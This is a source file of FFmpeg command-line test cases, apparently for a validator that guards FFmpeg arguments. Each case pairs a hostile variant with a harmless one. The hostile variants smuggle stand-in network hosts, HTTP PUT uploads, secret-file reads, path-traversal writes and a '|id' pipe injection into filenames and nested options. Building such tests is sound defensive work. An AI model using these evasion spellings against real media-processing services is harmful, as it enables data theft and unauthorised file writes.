/**
 * By names that FFmpeg builds while it runs, so that no protocol or folder shows in the command; by
 * options that belong to another file than they seem to; by lists and levels of quoting within others.
 */
export const builtAttacks = String.raw`
N601 -i in.mp4 -map 0 -c copy -f hls -var_stream_map v:0,a:0,name:http ⟦%v://HOST/x.m3u8⇒%v.m3u8⟧
N602 -i in.mp4 -map 0 -c copy -f hls -var_stream_map ⟦v:0,a:0,name:http:⇒v:0,a:0,name:http⟧ %v/HOST/x.m3u8
N603 -i in.mp4 -map 0 -c copy -f hls -var_stream_map v:0,a:0,name:tcp -hls_segment_filename "⟦%v://HOST?timeout=1&x=%d⇒%v_%d.ts⇒"%v://HOST?timeout=1&x=%d"⟧" x%v.m3u8
N604 -i in.mp4 -map 0 -c copy -f tee "[f=hls:var_stream_map='v\\:0,a\\:0,name\\:http']⟦%v://HOST/x.m3u8⇒%v.m3u8⟧"
N605 -i in.mp4 -f image2 -strftime 1 ⟦%Pqp://HOST/x⇒%P.png⟧
N606 -f lavfi ⟦-dec 0:0 -i http://HOST/x⇒-i anullsrc⇒http://HOST/x⟧ -t 1 -f null -
R601 -f lavfi -i "movie=cpl.xml:f=imf:format_opts=assetmaps=⟦a.xml\\,SECRET⇒a.xml\\,b.xml⇒assetmaps=a.xml\\,SECRET⟧" -f null -
R605 -f lavfi ⟦-dec 0:0 -i SECRET⇒-i anullsrc⇒SECRET⟧ -t 1 -f null -
R602 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i "⟦fil?:SECRET⇒fil?/*.bin⇒"fil?:SECRET"⟧" -frames:v 1 -f rawvideo o.bin
R603 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -pattern_type glob -i "⟦{file,x}:SECRET⇒{file,x}/*.bin⇒"{file,x}:SECRET"⟧" -frames:v 1 -f rawvideo o.bin
R604 -f image2 -c:v rawvideo -pixel_format gray -video_size 30x1 -i "⟦fil%?:SECRET⇒fil%?/%*.bin⇒"fil%?:SECRET"⟧" -frames:v 1 -f rawvideo o.bin
W601 -i in.mp4 -map 0 -c copy -f hls -var_stream_map v:0,a:0,name:file ⟦%v:OUT/x.m3u8⇒%v.m3u8⟧
W602 -i in.mp4 -map 0 -c copy -f hls -var_stream_map v:0,a:0,name:file -hls_segment_filename ⟦%v:OUT/%d.ts⇒%v_%d.ts⟧ a%v.m3u8
W603 -i in.mp4 -map 0 -c copy -f hls -var_stream_map ⟦v:0,a:0,name:file:⇒v:0,a:0,name:file⟧ %v/link/out/x.m3u8
W604 -i in.mp4 -map 0 -c copy -f hls -var_stream_map ⟦v:0,a:0,name:a /../../../link/out/b⇒v:0,a:0,name:a⟧ %v/x.m3u8
W605 -i in.mp4 -map 0 -c copy -f hls -var_stream_map ⟦$'v:0,a:0,name:a\n/../../../link/out/b'⇒v:0,a:0,name:a⇒$'v:0,a:0,name:a\n/../../../link/out/b'⟧ %v/x.m3u8
W606 -i in.mp4 -map 0 -c copy -f tee "[f=hls:var_stream_map='⟦v\\:0,a\\:0,name\\:a /../../../link/out/b⇒v\\:0,a\\:0,name\\:a⟧']%v/x.m3u8"
W607 -i in.mp4 -map 0:v -map 0:a -c copy -f hls -hls_segment_type fmp4 -var_stream_map "v:0,name:file a:0,name:b" -hls_fmp4_init_filename ⟦%v:OUT/i.mp4⇒%v.mp4⟧ x%v.m3u8
W608 -i in.mp4 -f image2 -frames:v 1 -c:v png -start_number 5 ⟦md%d:OUT/x⇒md%d.png⟧
W609 -i in.mp4 -map 0 -c copy -f segment -segment_time 30 -segment_format mpegts -segment_start_number 5 ⟦md%d:OUT/x⇒md%d.ts⟧
W610 -i in.mp4 -map 0 -c copy -f ssegment -segment_time 30 -segment_format mpegts -segment_start_number 5 ⟦md%d:OUT/x⇒md%d.ts⟧
W611 -i in.mp4 -map 0 -c copy -f hls -hls_time 30 -start_number 5 -hls_segment_filename ⟦md%d:OUT/x⇒md%d.ts⟧ x.m3u8
W612 -i in.mp4 -map 0:v -c:v libvpx -f webm_chunk -header h.hdr -chunk_start_index 5 ⟦md%d:OUT/x⇒md%d.chk⟧
W613 -i in.mp4 -map 0:v -frames:v 1 -c:v png -f tee "[f=image2:start_number=5]⟦md%d:OUT/x⇒md%d.png⟧"
W614 -i in.mp4 -map 0 -c copy -f fifo -fifo_format segment -format_opts segment_start_number=5:segment_time=30:segment_format=mpegts ⟦md%d:OUT/x⇒md%d.ts⟧
W615 -i in.mp4 -c copy -f dash -media_seg_name ⟦'md$Number$:OUT/x'⇒'md$Number$.m4s'⇒'md$Number$:OUT/x'⟧ x.mpd
W616 -i in.mp4 -c copy -f dash -init_seg_name ⟦'md$RepresentationID$:OUT/x'⇒'md$RepresentationID$.m4s'⇒'md$RepresentationID$:OUT/x'⟧ x.mpd
R851 -f lavfi -i "movie=cpl.xml:f=imf:format_opts='⟦assetmaps=a.xml,SECRET⇒assetmaps=a.xml,b.xml⟧'" -f null -
R852 -f lavfi -i "movie=cpl.xml:f=imf:format_opts=⟦assetmaps=a.xml\\,SECRET⇒assetmaps=a.xml\\,b.xml⟧" -f null -
R853 -f lavfi -i "movie=cpl.xml:imf:-1:0:dv:1:0:0:⟦\\'assetmaps=a.xml\\,SECRET\\'⇒\\'assetmaps=a.xml\\,b.xml\\'⇒assetmaps=a.xml\\,SECRET⟧" -f null -
R854 -f lavfi -i "movie=cpl.xml:f=imf:format_opts='⟦assetmaps=a_b.xml,file\\\\\\:SECRET⇒assetmaps=a_b.xml,b.xml⟧'" -f null -
W851 -i in.mp4 -vf "sendcmd=c='⟦0 [enter\\\\] curves plot OUT/c⇒0 [enter\\\\] curves plot c⇒OUT/c⟧',curves=lighter" -f null -
W852 -i in.mp4 -vf "sendcmd=c='⟦0 [enter;#] null a b, curves plot OUT/c⇒0 [enter;#] null a b, curves plot c⇒OUT/c⟧',curves=lighter" -f null -
`

/** More positions, muxers within muxers and spellings, which no other list has. */
export const nestedAttacks = String.raw`
N701 -i in.mp4 -c copy -f fifo -fifo_format mpegts -format_opts ⟦listen=1⇒mpegts_service_id=1⟧ a.ts
N702 -i in.mp4 -map 0 -c copy -f tee -fifo_options ⟦format_opts=method=PUT⇒format_opts=mpegts_service_id=1⟧ "[f=mpegts:use_fifo=1]a.ts"
N703 -i in.mp4 -c copy -f segment -segment_format_options ⟦"'http_proxy'=http\\://HOST"⇒"'movflags'=faststart"⇒"'http_proxy'=http\\://HOST"⟧ s%d.mp4
N704 -i in.mp4 -map 0 -c copy -f tee "[f=dash:http_opts=⟦method=PUT⇒reconnect=1⟧]x.mpd"
N705 -f lavfi -i "movie=x.m3u8:format_opts=⟦seg_format_options=protocol_whitelist=ALL⇒seg_format_options=probesize=9000⟧" -f null -
N706 -f hls -seg_format_options ⟦enable_drefs=1:use_absolute_path=1⇒ignore_editlist=1⟧ -i in.m3u8 -f null -
N707 -i in.mp4 -c copy -f hls -hls_subtitle_path ⟦http://HOST/s⇒s⟧ x.m3u8
N708 -i in.mp4 -c copy -f hls -hls_segment_type fmp4 -hls_fmp4_init_filename ⟦tcp://HOST⇒i.mp4⟧ x.m3u8
N709 -i in.mp4 -c copy -f dash -single_file 1 -single_file_name ⟦http://HOST/f⇒f.mp4⟧ x.mpd
N710 -i in.mp4 -c:v libxvid -pass 2 -passlogfile ⟦http://HOST/p⇒p⟧ -an a.avi
N711 -f vobsub -sub_name ⟦http://HOST/x.sub⇒x.sub⟧ -i in.idx -map 0 -c copy -f data o.bin
N712 -f imf -assetmaps ⟦a.xml,file:SECRET⇒a.xml,b.xml⟧ -i cpl.xml -f null -
N713 -i in.mp4 -map 0:v -c:v libvpx -f webm_chunk -chunk_start_index 1 -header h.hdr ⟦http://HOST/c_%d.chk⇒c_%d.chk⟧
N714 ⟦-sources pulse⇒-re⇒-sources⟧ -i in.mp4 -f null -
N715 ⟦-sinks alsa⇒-re⇒-sinks⟧ -i in.mp4 -f null -
R701 -i in.mp4 -map 0 -c copy -attach ⟦-⇒notes.txt⟧ -metadata:s:t mimetype=text/plain -f matroska o.bin
R702 -i in.mp4 -map 0 -c copy -attach ⟦'|id'⇒notes.txt⇒'|id'⟧ -metadata:s:t mimetype=text/plain -f matroska o.bin
R703 -f image2 -i ⟦sub/%d/../../../app/%d⇒sub/%d.png⟧ -f null -
R704 -aribb24-base-path ⟦/app⇒app⟧ -i in.ts -f null -
R705 -f dvdvideo -i ⟦/app⇒disc⟧ -f null -
R706 -i in.mp4 -f data -i ⟦concat:in.bin|file:SECRET⇒in.bin⟧ -map 1 -c copy -f data o.bin
W701 -i in.mp4 ⟦-stats:v OUT/x⇒-stats:v⇒OUT/x⟧ -c:v libx264 -f null -
W702 -i in.mp4 -map 0:v -c copy -f smoothstreaming ⟦OUT/s⇒s⟧
W703 -i in.mp4 -c copy -f hds ⟦REL_OUT/h⇒h⟧
W704 -i in.mp4 -map 0:v -c:v libvpx -f webm_chunk -chunk_start_index 1 -header h.hdr ⟦OUT/c_%d.chk⇒c_%d.chk⟧
W705 -i in.mp4 -map 0 -c copy -f tee "[f=dash:media_seg_name=⟦REL_OUT/c⇒c⟧]x.mpd"
W706 -i in.mp4 -map 0 -c copy -f tee "[f=segment:segment_header_filename=⟦OUT/h⇒h⟧]s%d.ts"
W707 -i in.mp4 -c copy -f hls -hls_segment_options ⟦format_opts=segment_list=OUT/l⇒format_opts=segment_list=l⟧ x.m3u8
W708 -i in.mp4 -c copy -f mpegts ⟦sub/%d/../../REL_OUT/x⇒sub/%d/x⟧
R801 -f lavfi -i "movie=filename=in.bin:filename=⟦SECRET⇒in.bin⟧:f=h264" -f null -
R802 -f lavfi -i "movie=x:f=⟦la\\vfi⇒h26\\4⇒la\\vfi⟧" -f null -
R803 -f lavfi -i "movie=in.mp4:format_opts=⟦seg_format_options=protocol_whitelist\\\\=ALL⇒seg_format_options=probesize\\\\=9000⟧" -f null -
R804 -f lavfi -i "[out0+subcc]movie=⟦SECRET⇒in.bin⟧" -f null -
R805 -i in.mp4 -filter_complex "[0:v]null[a];[a]drawtext@/text=text=a:textfile=⟦SECRET⇒notes.txt⟧" -f null -
R806 -i in.mp4 -vf "null,sendcmd=c='⟦0 x y z, [leave] drawtext@a reinit text=a\\:textfile=SECRET⇒0 x y z, [leave] drawtext@a reinit text=a⇒SECRET⟧',drawtext@a=text=b:fontfile=FONT" -f null -
W801 -i in.mp4 -vf "split[a][b];[a][b]ssim360=eof_action=pass:f=⟦OUT/s⇒s⟧" -f null -
W802 -i in.mp4 -vf "sendcmd=c=⟦'0-9 [expr+enter] curves plot OUT/c'⇒'0-9 [expr+enter] hue h t'⇒OUT/c⟧,curves=lighter" -f null -
N801 -i in.mp4 -vf uspp=8:1:0:⟦hevc_vaapi⇒snow⟧ -f null -
T801 -i in.mp4 -vf "scale=64:64:th\\reads=⟦900⇒1⟧" -f null -
T802 -f lavfi -i "amovie=in.mp4:dec_threads=⟦64⇒1⟧" -f null -
T803 -f lavfi -i "movie=in.mp4:h264:0:0:dv:1:0:⟦64⇒1⟧" -f null -
`
